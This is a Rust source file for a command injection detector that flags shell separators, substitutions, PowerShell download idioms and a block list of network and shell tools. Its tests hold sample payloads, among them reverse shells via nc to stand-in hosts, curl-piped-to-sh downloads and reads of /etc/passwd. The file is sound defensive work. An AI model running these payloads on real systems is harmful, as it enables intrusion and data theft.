//! OS command injection: a shell separator or substitution (`;` `|` `&&` `||` newline `$(` a
//! backtick) followed by a command. Common English words that are also commands (`cat`, `sleep`,
//! `id`) only count with the arguments an attacker gives them (`cat /etc/passwd`, `sleep 5`, `id`
//! at the end), so "Tom & Jerry; cat lovers" is not an attack.

use super::signals::WordSet;
use super::{Detector, Hit, Normalized, Place, CRITICAL, ERROR};

/// Commands that nobody types into a form field. (a `match`: a length switch, then one comparison)
fn rare(word: &str) -> bool {
    matches!(
        word,
        "whoami"
            // Compilers, editors, archivers, network and system tools an attacker chains after a
            // separator; none is an English word.
            | "c89"
            | "c99"
            | "gcc"
            | "clang"
            | "vim"
            | "nano"
            | "flock"
            | "base32"
            | "xargs"
            | "gawk"
            | "mawk"
            | "bsdtar"
            | "gunzip"
            | "gzip"
            | "bzip2"
            | "unzip"
            | "nohup"
            | "setsid"
            | "strace"
            | "ltrace"
            | "gdb"
            | "tcpdump"
            | "nmap"
            | "ssh"
            | "scp"
            | "sftp"
            | "tftp"
            | "rsync"
            | "openssl"
            | "lua"
            | "luajit"
            | "tclsh"
            | "jrunscript"
            | "jjs"
            | "irb"
            | "python2"
            | "npx"
            | "pip3"
            | "dpkg"
            | "systemctl"
            | "iptables"
            | "killall"
            | "pkill"
            | "pgrep"
            | "mknod"
            | "chattr"
            | "wmic"
            | "mshta"
            | "rundll32"
            | "regsvr32"
            | "cscript"
            | "wscript"
            | "msiexec"
            | "schtasks"
            | "taskkill"
            | "sqlite3"
            | "psql"
            | "uname"
            | "ifconfig"
            | "ipconfig"
            | "netstat"
            | "wget"
            | "curl"
            | "bash"
            | "sh"
            | "zsh"
            | "ksh"
            | "csh"
            | "dash"
            | "nc"
            | "ncat"
            | "netcat"
            | "telnet"
            | "python"
            | "python3"
            | "perl"
            | "ruby"
            | "php"
            | "node"
            | "powershell"
            | "pwsh"
            | "cmd"
            | "cmd.exe"
            | "certutil"
            | "bitsadmin"
            | "chmod"
            | "chown"
            | "passwd"
            | "useradd"
            | "systeminfo"
            | "tasklist"
            | "nslookup"
            | "dig"
            | "traceroute"
            | "base64"
            | "xxd"
            | "busybox"
            | "rm"
            | "mkfifo"
            | "crontab"
            | "sudo"
            | "su"
            | "socat"
            | "msfconsole"
    )
}

/// Commands that are also words: they need attacker-shaped arguments. (a `match`: a length switch, then one comparison)
fn wordlike(word: &str) -> bool {
    matches!(
        word,
        "cat"
            | "ls"
            | "id"
            | "sleep"
            | "ping"
            | "echo"
            | "env"
            | "set"
            | "type"
            | "dir"
            | "more"
            | "less"
            | "head"
            | "tail"
            | "find"
            | "kill"
            | "who"
            | "ps"
            | "printenv"
            | "expr"
    )
}

fn command_word(s: &str) -> (&str, &str) {
    let s = s.trim_start_matches([' ', '\t', '"', '\'', '(', '{']);
    let end = s
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-' | '\\')))
        .unwrap_or(s.len());
    let (word, rest) = s.split_at(end);
    // `/bin/cat`, `/usr/bin/id`, `c:\windows\system32\cmd.exe`.
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    (base, rest)
}

fn attacker_args(word: &str, rest: &str) -> bool {
    let args = rest.trim_start();
    match word {
        "sleep" | "ping" => args.starts_with(|c: char| c.is_ascii_digit() || c == '-'),
        "id" | "who" | "ps" | "env" | "printenv" | "set" | "ls" | "dir" => {
            args.is_empty() || args.starts_with(['-', '/', ';', '|', '&', '`', '$', '\'', '"', '#'])
        }
        _ => args.starts_with(['/', '-', '~', '$', '.', '\\', '%']) || args.starts_with("c:"),
    }
}

/// PowerShell verbs and idioms that download or run code.
static POWERSHELL: WordSet = WordSet::new(&[
    "invoke-webrequest",
    "invoke-expression",
    "invoke-command",
    "invoke-wmimethod",
    "iex(",
    "iex ",
    "iwr ",
    "iwmi ",
    "start-process",
    "downloadstring",
    "downloadfile",
    "new-object net.webclient",
    "-encodedcommand",
    "frombase64string",
]);

/// The shell's own view of a value: quotes, backslashes and carets removed, as `c'a't`,
/// `ca\t` and `w^hoami` all run the same command.
fn unquoted(l: &str) -> Option<String> {
    l.contains(['\'', '"', '\\', '^']).then(|| {
        l.chars()
            .filter(|c| !matches!(c, '\'' | '"' | '\\' | '^'))
            .collect()
    })
}

/// cmd.exe conditionals: `IF EXIST file CMD`, `IF NOT EXIST`, `IF ERRORLEVEL 1`, at the start of
/// a value or after a separator (`c` has whitespace runs collapsed).
fn cmd_conditional(c: &str) -> bool {
    if !c.contains("if ") {
        return false;
    }
    [
        "if exist ",
        "if not exist ",
        "if errorlevel ",
        "if defined ",
        "if /i ",
    ]
    .iter()
    .any(|cond| {
        c.match_indices(cond).any(|(p, _)| {
            let before = c[..p].trim_end();
            before.is_empty() || before.ends_with(['&', '|', ';', '\n', '('])
        })
    })
}

pub fn check(v: &Normalized<'_>, place: Place, out: &mut Vec<Hit>) {
    if cmd_conditional(v.compact.as_ref()) {
        out.push(Hit::new(Detector::Cmdi, "cmd-conditional", CRITICAL, 1));
        return;
    }
    let before = out.len();
    check_view(v.lower.as_ref(), place, out);
    if out.len() == before && place != Place::JsonString {
        if let Some(u) = unquoted(v.lower.as_ref()) {
            check_view(&u, place, out);
        }
    }
}

/// A backtick at `at` that opens inline code in free text: the value is prose (several words
/// outside the backticks), the backtick follows a space, and a closing one follows.
fn markdown_code(l: &str, at: usize, place: Place) -> bool {
    if !matches!(place, Place::JsonString | Place::Body) || at == 0 {
        return false;
    }
    if !l[..at].ends_with(' ') || !l[at + 1..].contains('`') {
        return false;
    }
    let mut inside = false;
    let mut words = 0;
    for part in l.split('`') {
        if !inside {
            words += part
                .split_whitespace()
                .filter(|w| w.len() > 1 && w.bytes().all(|b| b.is_ascii_alphabetic()))
                .count();
        }
        inside = !inside;
    }
    words >= 3
}

fn check_view(l: &str, place: Place, out: &mut Vec<Hit>) {
    // Which syntax is present at all, in one pass: most values of prose have none of it, and
    // each substring search below would otherwise run on them.
    let (mut dollar, mut paren, mut tick, mut gt, mut pct) = (false, false, false, false, false);
    for b in l.bytes() {
        match b {
            b'$' => dollar = true,
            b'(' => paren = true,
            b'`' => tick = true,
            b'>' => gt = true,
            b'%' => pct = true,
            _ => {}
        }
    }
    if POWERSHELL.found_in(l) {
        out.push(Hit::new(Detector::Cmdi, "powershell", CRITICAL, 1));
        return;
    }
    if let Some(p) = l.find("powershell") {
        if l[p + 10..]
            .trim_start_matches(".exe")
            .trim_start()
            .starts_with(['-', '/', 'c'])
        {
            out.push(Hit::new(Detector::Cmdi, "powershell", CRITICAL, 1));
            return;
        }
    }
    // cmd.exe loops: `for /f %i in (...) do ...`.
    if let Some(p) = pct
        .then(|| l.find("for ").or_else(|| l.find("for/")))
        .flatten()
    {
        let rest = &l[p..];
        if rest.contains('%') && rest.contains(" in") && rest.contains("do") && rest.contains('(') {
            out.push(Hit::new(Detector::Cmdi, "cmd-for-loop", CRITICAL, 1));
            return;
        }
    }
    // Process substitution: `<(cat file)`, `>(tee log)`.
    for open in ["<(", ">("] {
        if let Some(p) = paren.then(|| l.find(open)).flatten() {
            let (word, _) = command_word(&l[p + 2..]);
            if rare(word) || wordlike(word) || word == "tee" {
                out.push(Hit::new(
                    Detector::Cmdi,
                    "process-substitution",
                    CRITICAL,
                    1,
                ));
                return;
            }
        }
    }
    if !l
        .bytes()
        .any(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'$' | b'\n'))
    {
        return;
    }
    // Bash arithmetic and parameter expansion tricks: `$((...))`, `$[..]`, `${x#...}`.
    if dollar && (l.contains("$((") || l.contains("$[")) {
        out.push(Hit::new(Detector::Cmdi, "shell-expansion", ERROR, 1));
        return;
    }
    // Substitution runs a command wherever it stands.
    for (open, present) in [("$(", dollar), ("`", tick), ("${ifs}", dollar)] {
        if let Some(p) = present.then(|| l.find(open)).flatten() {
            let (word, rest) = command_word(&l[p + open.len()..]);
            if rare(word) || (wordlike(word) && attacker_args(word, rest)) {
                if open == "`" && markdown_code(l, p, place) {
                    // Markdown's inline code (`ls -la`) in a sentence: only at paranoia 2.
                    out.push(Hit::new(Detector::Cmdi, "substitution-in-prose", ERROR, 2));
                } else {
                    out.push(Hit::new(Detector::Cmdi, "substitution", CRITICAL, 1));
                }
                return;
            }
        }
    }
    let seps: &[char] = if place == Place::JsonString {
        // Newlines are ordinary in JSON text.
        &[';', '|', '&']
    } else {
        &[';', '|', '&', '\n']
    };
    {
        let mut from = 0;
        while let Some(p) = l[from..].find(seps) {
            let at = from + p + 1;
            let after = l[at..].trim_start_matches(['|', '&']);
            let (word, rest) = command_word(after);
            if rare(word)
                && (rest.is_empty()
                    || rest.starts_with([' ', '\t', ';', '|', '&', '$', '<', '>', '\'', '"']))
            {
                out.push(Hit::new(Detector::Cmdi, "separator-command", CRITICAL, 1));
                return;
            }
            if wordlike(word) && attacker_args(word, rest) {
                out.push(Hit::new(Detector::Cmdi, "separator-command", CRITICAL, 1));
                return;
            }
            from = at;
        }
    }
    // Paranoia 2: `${IFS}` tricks and redirections to files.
    if (dollar && l.contains("${ifs")) || (gt && (l.contains(">/dev/") || l.contains("2>&1"))) {
        out.push(Hit::new(Detector::Cmdi, "shell-syntax", ERROR, 2));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::normalize::{normalize, Encoding};

    fn blocked(s: &str, place: Place) -> bool {
        let mut out = Vec::new();
        check(&normalize(s, Encoding::Plain), place, &mut out);
        out.iter().any(|h| h.paranoia == 1 && h.score >= 5)
    }

    #[test]
    fn injections_are_caught() {
        for s in [
            "127.0.0.1; cat /etc/passwd",
            "x | whoami",
            "a && id",
            "$(curl http://evil/x.sh | sh)",
            "`id`",
            "1;sleep 5",
            "foo; /bin/bash -i",
            "test|nc evil.com 4444 -e /bin/sh",
            "& ping -c 10 127.0.0.1 &",
            "x\nwget http://evil/a",
            "IF   EXIST C:\\pagefile.sys  CMD",
            ";c89 -wrapper sh,-c,id .",
            "x; nohup nc -e /bin/sh evil.example 4444",
            "x & if not exist c:\\x (echo y)",
        ] {
            assert!(blocked(s, Place::Query), "{s}");
        }
    }

    #[test]
    fn prose_passes() {
        for s in [
            "Tom & Jerry; cat lovers unite",
            "R&D | sales",
            "meet at 5; sleep early",
            "I set the type; more to come",
            "costs $5 & more",
            "a | b | c",
            "echo chamber",
            "I wonder if exist is a word; it is not",
            "the file does not exist",
        ] {
            assert!(!blocked(s, Place::JsonString), "{s}");
        }
    }
}
